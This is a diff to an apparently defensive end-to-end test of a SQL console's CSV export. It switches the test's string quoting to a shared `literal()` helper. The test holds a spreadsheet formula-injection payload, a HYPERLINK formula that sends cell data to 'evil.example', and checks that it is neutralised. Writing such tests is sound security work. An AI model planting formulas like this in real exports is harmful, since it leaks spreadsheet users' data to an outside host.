@@ -11,6 +11,7 @@ import Papa from 'papaparse';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startApp, waitForCharts, type App } from './harness.ts';
+import { literal } from '../../src/sql/quote.ts';
 
 let app: App;
 // A stand-in for an outside host: it counts every request that reaches it.
@@ -130,7 +131,7 @@ describe('SQL console safety', () => {
   it('a formula-leading cell of a result is neutralised in the CSV; numbers stay numbers', async () => {
     const { page } = await sharedConsole();
     const formula = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
-    const sql = `SELECT '${formula.replaceAll("'", "''")}' AS title, '@SUM(1)' AS at, -3.5 AS delta, 'plain' AS ok`;
+    const sql = `SELECT ${literal(formula)} AS title, '@SUM(1)' AS at, -3.5 AS delta, 'plain' AS ok`;
     expect(await runInConsole(page, sql)).toBeNull();
     const [download] = await Promise.all([
       page.waitForEvent('download'),
